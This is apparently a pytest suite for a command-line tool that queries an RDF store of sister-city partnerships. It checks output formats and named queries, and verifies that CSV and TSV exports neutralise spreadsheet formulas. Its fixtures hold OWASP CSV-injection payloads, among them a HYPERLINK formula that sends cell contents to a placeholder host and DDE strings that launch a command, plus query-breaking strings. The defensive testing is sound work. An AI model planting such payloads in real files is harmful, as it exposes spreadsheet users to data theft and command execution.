"""`friendship-graph query` for CONSTRUCT / DESCRIBE (RDF in any format) and ASK (exit status),
and the named query catalogue through the CLI, on a store holding the Jinzhong report."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from rdflib import Dataset, Graph, URIRef

from friendship_graph.cli import main
from friendship_graph.vocab import FG, ID

JINZHONG = Path(__file__).resolve().parent.parent / "data" / "jinzhong-2019-10-30.trig"
CONSTRUCT = "CONSTRUCT { ?p fg:partner ?x } WHERE { ?p fg:partner ?x }"


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("cli") / "store"
    result = CliRunner().invoke(main, ["--store", str(path), "load", str(JINZHONG)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return str(path)


def run(store_path: str, *args: str):  # noqa: ANN201
    return CliRunner().invoke(main, ["--store", store_path, *args], catch_exceptions=False)


def partner_count(graph: Graph) -> int:
    return len(list(graph.triples((None, FG.partner, None))))


@pytest.mark.parametrize(("fmt", "rdflib_format"), [
    (None, "turtle"), ("ttl", "turtle"), ("nt", "nt"), ("jsonld", "json-ld"), ("xml", "xml"),
    ("n3", "n3"),
])
def test_construct_in_rdf_formats(store_path: str, fmt: str | None, rdflib_format: str) -> None:
    args = ["query", CONSTRUCT] + (["--format", fmt] if fmt else [])
    result = run(store_path, *args)
    assert result.exit_code == 0, result.output
    graph = Graph().parse(data=result.stdout, format=rdflib_format)
    assert partner_count(graph) == 16  # 8 partnerships, 2 partners each
    if fmt is None:
        assert "@prefix fg:" in result.stdout  # Turtle by default, with the project's prefixes


@pytest.mark.parametrize("fmt", ["trig", "nq"])
def test_construct_in_dataset_formats(store_path: str, fmt: str) -> None:
    result = run(store_path, "query", CONSTRUCT, "--format", fmt)
    assert result.exit_code == 0, result.output
    dataset = Dataset()
    dataset.parse(data=result.stdout, format={"trig": "trig", "nq": "nquads"}[fmt])
    assert len(dataset) == 16


def test_describe(store_path: str) -> None:
    iri = ID["place/cn/jinzhong"]
    result = run(store_path, "query", f"DESCRIBE <{iri}>")
    assert result.exit_code == 0, result.output
    graph = Graph().parse(data=result.stdout, format="turtle")
    assert (iri, FG.country, ID["country/cn"]) in graph


def test_format_help_says_which_default_applies_to_which_query_form() -> None:
    text = " ".join(CliRunner().invoke(main, ["query", "--help"]).output.split())
    assert "SELECT and ASK: table (their default)" in text
    assert "CONSTRUCT and DESCRIBE: ttl (their default)" in text
    assert "[default: table]" not in text  # one default per query form, not one for all


def test_default_format_per_query_form(store_path: str) -> None:
    select = run(store_path, "query", "SELECT ?p WHERE { ?p fg:partner ?x } LIMIT 1")
    assert select.exit_code == 0 and "row(s)" in select.stdout  # a table
    construct = run(store_path, "query", CONSTRUCT)
    assert partner_count(Graph().parse(data=construct.stdout, format="turtle")) == 16
    assert run(store_path, "query", CONSTRUCT, "--format", "table").stdout == construct.stdout


def test_no_rows_for_a_known_place_says_0_rows_on_stderr(store_path: str) -> None:
    # Shanxi is in the store (the province of Jinzhong) but has no partnership of its own.
    table = run(store_path, "query", "partners", "--param", "place=Shanxi")
    assert table.exit_code == 0
    assert table.stderr == "0 rows\n"
    csv = run(store_path, "query", "partners", "--param", "place=Shanxi", "--format", "csv")
    assert csv.exit_code == 0 and csv.stderr == ""  # machine formats: the data only
    assert csv.stdout.startswith("partner,") and csv.stdout.count("\n") == 1
    found = run(store_path, "query", "partners", "--param", "place=Jinzhong")
    assert found.exit_code == 0 and found.stderr == ""


def test_unknown_rdf_format_is_one_line(store_path: str) -> None:
    result = run(store_path, "query", CONSTRUCT, "--format", "csv")
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "error:" in result.output


@pytest.mark.parametrize(("query", "code", "text"), [
    ("ASK { ?p fg:partner ?x }", 0, "true"),
    ("ASK { ?p fg:partner fg:Nothing }", 1, "false"),
    ("ASK WHERE { ?p fg:status fgc:intended }", 0, "true"),
])
def test_ask_prints_true_or_false_and_sets_the_exit_status(store_path: str, query: str,
                                                          code: int, text: str) -> None:
    result = run(store_path, "query", query)
    assert (result.exit_code, result.stdout.strip()) == (code, text)


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_ask_in_sparql_result_formats(store_path: str, fmt: str) -> None:
    result = run(store_path, "query", "ASK { ?p fg:partner fg:Nothing }", "--format", fmt)
    assert result.exit_code == 1
    if fmt == "json":
        assert json.loads(result.stdout) == {"head": {}, "boolean": False}
    else:
        assert "<boolean>false</boolean>" in result.stdout


def test_named_construct_query_network(store_path: str) -> None:
    result = run(store_path, "query", "network", "--param", "place=Szolnok")
    assert result.exit_code == 0, result.output
    graph = Graph().parse(data=result.stdout, format="turtle")
    assert set(graph.subjects(FG.partner, None)) == {ID["partnership/jinzhong-szolnok"]}
    nt = run(store_path, "query", "network", "-p", "place=Szolnok", "-p", "depth=2",
             "--format", "nt")
    assert len(Graph().parse(data=nt.stdout, format="nt")) > len(graph)


@pytest.mark.parametrize(("name", "params"), [
    ("partners", ["place=晋中"]), ("agreements", ["kind=LetterOfIntent"]),
    ("events", ["place=Pingyao", "from=2019"]), ("visits", ["place=Jinzhong"]),
    ("timeline", ["place=Jinzhong"]), ("countries", []), ("country-pairs", []),
    ("path", ["from=Kyakhta", "to=Provins"]), ("sources", ["subject=Pingyao County"]),
    ("search", ["text=hoi an"]),
])
def test_named_select_queries_through_the_cli(store_path: str, name: str,
                                              params: list[str]) -> None:
    args = ["query", name, "--format", "json"]
    for param in params:
        args += ["--param", param]
    result = run(store_path, *args)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["results"]["bindings"], name


def test_queries_lists_the_catalogue() -> None:
    result = CliRunner().invoke(main, ["queries", "--format", "json"], catch_exceptions=False)
    names = {q["name"] for q in json.loads(result.stdout)}
    assert {"partners", "agreements", "events", "visits", "timeline", "countries",
            "country-pairs", "path", "network", "sources", "search"} <= names


def test_missing_required_parameter_is_one_line(store_path: str) -> None:
    result = run(store_path, "query", "path", "--param", "from=Jinzhong")
    assert result.exit_code == 2
    assert "--param to=VALUE" in result.output and "Traceback" not in result.output


def test_hostile_values_through_the_cli_return_nothing(store_path: str) -> None:
    for value in ['x" || true || "', '"}', "\\", "a\nb", "}"]:
        result = run(store_path, "query", "partners", "--param", f"place={value}",
                     "--format", "json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["results"]["bindings"] == []
    assert URIRef("x")  # keep the import used


# ------------------------------------------------------------------ spreadsheet-safe CSV

#: Labels a spreadsheet would run as formulas (OWASP's CSV injection examples), and two that
#: must stay as they are: a number and plain text.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\tx=1", "'already quoted"]
KEPT = ["-2", "Plain town"]
LABEL_QUERY = "SELECT ?l WHERE { ?place a fg:City ; rdfs:label ?l FILTER(LANG(?l) = 'en') }"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A store with one place per hostile label, each partnered with the next (so the
    network export has them as nodes)."""
    folder = tmp_path_factory.mktemp("formulas")
    labels = FORMULAS + KEPT
    lines = ["@prefix fg: <https://w3id.org/friendship-graph/ontology#> .",
             "@prefix fgc: <https://w3id.org/friendship-graph/concept/> .",
             "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .",
             "@prefix id: <https://w3id.org/friendship-graph/id/> ."]
    for i, text in enumerate(labels):
        literal = json.dumps(text)  # a valid Turtle string: quotes, tab escaped
        lines.append(f"id:place\\/xx\\/formula-{i} a fg:City ; rdfs:label {literal}@en .")
        lines.append(f"id:partnership\\/formula-{i} a fg:SisterCityPartnership ; "
                     f"fg:partner id:place\\/xx\\/formula-{i}, "
                     f"id:place\\/xx\\/formula-{(i + 1) % len(labels)} ; "
                     "fg:status fgc:established .")
    data = folder / "formulas.ttl"
    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
    path = folder / "store"
    result = run(str(path), "load", str(data))
    assert result.exit_code == 0, result.stderr
    return str(path)


def _csv_cells(text: str) -> list[str]:
    import csv
    import io

    return [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]


def test_query_csv_neutralises_formula_cells(hostile_store: str) -> None:
    result = run(hostile_store, "query", LABEL_QUERY, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    cells = _csv_cells(result.stdout)
    assert sorted(cells) == sorted(["'" + f for f in FORMULAS] + KEPT)
    raw = run(hostile_store, "query", LABEL_QUERY, "--format", "csv", "--raw-csv")
    assert sorted(_csv_cells(raw.stdout)) == sorted(FORMULAS + KEPT)


def test_query_tsv_neutralises_formula_cells(hostile_store: str) -> None:
    result = run(hostile_store, "query", LABEL_QUERY, "--format", "tsv")
    assert result.exit_code == 0, result.stderr
    cells = result.stdout.splitlines()[1:]
    assert len(cells) == len(FORMULAS + KEPT)
    for cell in cells:  # a spreadsheet drops the quotes: what is inside them must be safe
        value = cell.removeprefix('"')
        assert not value.startswith(("=", "+", "@", "\t", "\\t")), cell
        assert not value.startswith("-") or value.startswith("-2\""), cell
    assert '"\'=HYPERLINK(' in result.stdout and '"-2"@en' in result.stdout
    raw = run(hostile_store, "query", LABEL_QUERY, "--format", "tsv", "--raw-csv")
    assert '"=HYPERLINK(' in raw.stdout and "\"'=" not in raw.stdout
    assert "\"''already quoted\"" in result.stdout and "\"'already quoted\"" in raw.stdout


def test_export_csv_neutralises_formula_cells(hostile_store: str, tmp_path: Path) -> None:
    import csv

    from friendship_graph.export import read_graph

    out = tmp_path / "net"
    result = run(hostile_store, "export", "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    with open(tmp_path / "net.nodes.csv", encoding="utf-8", newline="") as stream:
        labels = [row["label"] for row in csv.DictReader(stream)]
    assert sorted(labels) == sorted(["'" + f for f in FORMULAS] + KEPT)
    for name in ("net.nodes.csv", "net.edges.csv"):  # no cell of either file is a formula
        with open(tmp_path / name, encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), row
    # The export's own reader gives back exactly the labels.
    back = read_graph(tmp_path / "net.nodes.csv")
    assert sorted(d["label"] for _, d in back.nodes(data=True)) == sorted(FORMULAS + KEPT)
    raw = tmp_path / "raw"
    result = run(hostile_store, "export", "--format", "csv", "-o", str(raw), "--raw-csv")
    assert result.exit_code == 0, result.stderr
    with open(tmp_path / "raw.nodes.csv", encoding="utf-8", newline="") as stream:
        assert sorted(row["label"] for row in csv.DictReader(stream)) == sorted(FORMULAS + KEPT)


def _formula_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text, newline=""))
            for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
            or (cell.startswith("-") and cell != "-2")]


@pytest.mark.parametrize(("args", "places"), [
    (["analyze", "--rank", "degree", "--top", "0", "--format", "csv"], []),
    (["path", "--format", "csv"], ["--", "Plain town", "-2+3+cmd|' /C calc'!A0"]),
], ids=["analyze", "path"])
def test_every_csv_report_neutralises_formula_cells(hostile_store: str, args: list[str],
                                                    places: list[str]) -> None:
    """Not only query and export: every command that writes CSV (the mechanism is one
    function, results.spreadsheet_safe, and one option, --raw-csv)."""
    result = run(hostile_store, *args, *places)
    assert result.exit_code == 0, result.stderr
    assert "'=HYPERLINK(" in result.stdout or "'-2+3+cmd" in result.stdout
    assert _formula_cells(result.stdout) == []
    raw = run(hostile_store, *args, "--raw-csv", *places)
    assert raw.exit_code == 0, raw.stderr
    assert _formula_cells(raw.stdout), raw.stdout


def test_compare_csv_and_the_import_report_neutralise_formula_cells(
        hostile_store: str, tmp_path: Path) -> None:
    import shutil

    store = str(shutil.copytree(hostile_store, tmp_path / "store"))
    half = tmp_path / "half.ttl"
    lines = (Path(hostile_store).parent / "formulas.ttl").read_text(encoding="utf-8").splitlines()
    half.write_text("\n".join(lines[:8]) + "\n", encoding="utf-8")
    assert run(store, "load", "--graph", "https://w3id.org/friendship-graph/graph/half",
               str(half)).exit_code == 0
    for fmt in ("csv", "tsv"):
        result = run(store, "compare", "formulas", "half", "--format", fmt)
        assert result.exit_code == 0, result.stderr
        assert "'=HYPERLINK(" in result.stdout
        cells = [c for line in result.stdout.splitlines() for c in line.split("\t")]
        assert fmt == "csv" or not [c for c in cells if c.startswith(("=", "+", "@"))]
        assert fmt == "tsv" or _formula_cells(result.stdout) == []
    raw = run(store, "compare", "formulas", "half", "--format", "csv", "--raw-csv")
    assert _formula_cells(raw.stdout)
    # The import report quotes the rejected input: its cells are neutralised too.
    pairs = tmp_path / "pairs.csv"
    pairs.write_text('city1,country1,city2,country2\n=cmd|x,Narnia,Rome,Italy\n',
                     encoding="utf-8")
    report = tmp_path / "report.csv"
    result = run(store, "import", "pairs", str(pairs), "--report", str(report))
    assert result.exit_code == 0, result.stderr
    text = report.read_text(encoding="utf-8")
    assert "=cmd|x" in text and _formula_cells(text) == []
